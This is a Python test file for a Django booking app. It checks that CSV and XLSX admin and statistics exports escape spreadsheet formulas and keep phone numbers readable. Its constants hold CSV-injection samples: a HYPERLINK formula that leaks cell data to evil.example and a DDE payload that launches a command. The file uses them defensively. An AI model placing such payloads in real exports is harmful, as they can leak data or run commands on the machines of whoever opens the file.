"""Exports safe to open in a spreadsheet (issue 14, point 6): no text of ours is
ever read as a formula, in any CSV or XLSX export, and phone numbers stay
readable."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from booking.models import VisitReason
from core.spreadsheets import ADMIN_FORMATS, neutralise
from staffing.models import Service
from tests.factories import CitizenFactory

from .conftest import FIRST_DAY, LAST_DAY

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
COMMAND = "+cmd|' /C calc'!A0"
PHONE = "+32470123456"


def admin_export(client, model: str, fmt: str) -> bytes:
    url = reverse(f"admin:{model}_export")
    form = client.get(url).context["form"]
    choice = next(
        value for value, label in form.fields["format"].choices if label == fmt
    )
    # The citizens' export asks why (issue 23); other forms ignore it.
    data = {"format": choice, "resource": "0", "reason": "Check"}
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def test_the_neutraliser_prefixes_every_formula_start_and_nothing_else():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Dupont") == "Dupont"
    assert neutralise(-3) == -3  # numbers stay numbers
    assert neutralise(None) is None


def test_every_admin_export_offers_only_the_safe_formats():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting
    for model_admin in exporting:
        assert set(model_admin.get_export_formats()) <= set(ADMIN_FORMATS), model_admin


def test_citizen_export_neutralises_formulas_and_keeps_phones_readable(
    client, administrator
):
    CitizenFactory(first_name=HYPERLINK, last_name=COMMAND, phone=PHONE)
    client.force_login(administrator)

    text = admin_export(client, "booking_citizen", "csv").decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))[:2]
    values = dict(zip(header, row, strict=True))
    assert values["first_name"] == "'" + HYPERLINK
    assert values["last_name"] == "'" + COMMAND
    assert values["phone"] == "'" + PHONE

    book = openpyxl.load_workbook(
        io.BytesIO(admin_export(client, "booking_citizen", "xlsx"))
    )
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(2, header.index(name) + 1) for name in header}
    assert cells["first_name"].value == HYPERLINK
    assert cells["first_name"].data_type == "s"  # text, not a formula
    assert cells["last_name"].value == COMMAND
    assert cells["phone"].value == PHONE
    assert cells["phone"].data_type == "s"


def test_statistics_exports_neutralise_formulas_in_names(
    client, administrator, commune
):
    VisitReason.objects.filter(name="Passport").update(name=HYPERLINK)
    Service.objects.filter(pk=commune.foreigners.pk).update(name="-2+3")
    client.force_login(administrator)
    period = {"first_day": FIRST_DAY.isoformat(), "last_day": LAST_DAY.isoformat()}

    csv_export = client.get(
        reverse("admin:reports_statistics_export", args=["csv"]), period
    )
    rows = list(csv.reader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK + " (Population)" in cells
    assert "'-2+3" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "-", "+"))]

    xlsx_export = client.get(
        reverse("admin:reports_statistics_export", args=["xlsx"]), period
    )
    book = openpyxl.load_workbook(io.BytesIO(xlsx_export.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert HYPERLINK + " (Population)" in [cell.value for cell in cells]
    assert "-2+3" in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert 9 in numbers  # figures stay numbers
